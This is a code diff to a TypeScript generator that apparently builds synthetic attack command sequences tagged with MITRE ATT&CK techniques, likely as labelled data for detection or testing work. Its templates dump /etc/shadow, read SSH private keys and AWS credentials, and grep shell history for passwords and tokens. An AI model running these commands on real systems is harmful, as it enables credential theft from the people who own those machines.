@@ -1,6 +1,6 @@
 import type { Draw } from '../draw.ts';
 import type { Attack, Place } from '../scenario.ts';
-import { link, maybe, remote, root, workFile, workFolder, write } from './ways.ts';
+import { link, look, maybe, remote, root, workFile, workFolder, write } from './ways.ts';
 
 function sendOff(draw: Draw, place: Place, path: string): string {
   const { host, port } = remote(draw, place);
@@ -19,7 +19,7 @@ const accounts: Attack = {
   family: 'credentials-of-accounts',
   techniques: ['T1003.008', 'T1552.001'],
   as: 'either',
-  needs: ['curl', 'nc', 'python3'],
+  needs: ['curl', 'nc', 'python3', 'sudo'],
   lines: (draw, place) => {
     const copy = workFile(draw, place, draw.pick(['', '.txt', '.bak', '.dat']));
     const take = draw.pick([
@@ -40,6 +40,7 @@ const accounts: Attack = {
       [root(place, `dd if=/etc/shadow of=${copy} status=none`), root(place, `chmod a+r ${copy}`)],
     ]);
     return [
+      ...look(draw, draw.int(2, 3)),
       ...maybe(draw, 0.5, draw.pick(['id', 'ls -l /etc/shadow', 'wc -l /etc/passwd', 'tail -5 /etc/passwd'])),
       ...take,
       ...maybe(draw, 0.5, `grep -aE ':\\$[0-9y]' ${copy} | cut -d: -f1`, `head -c 300 ${copy}`),
@@ -123,6 +124,7 @@ const glance: Attack = {
     const { host, port } = remote(draw, place);
     const cat = draw.pick(['cat', 'head -50', 'base64 -w0', 'strings']);
     return [
+      ...look(draw, draw.int(1, 3)),
       ...maybe(draw, 0.5, 'ls -la ~', 'ls -la ~/.ssh'),
       `${cat} ${draw.pick(['~/.ssh/id_*', '~/.aws/credentials', '~/.bash_history', '/home/*/.ssh/id_*'])} 2>/dev/null`,
       `grep -iE "pass|token|key" ${draw.pick(['~/.bash_history', '~/.config/* -rs', '/home/*/.bash_history', '/opt/*/*.conf /opt/*/config* -rs'])} 2>/dev/null | head`,
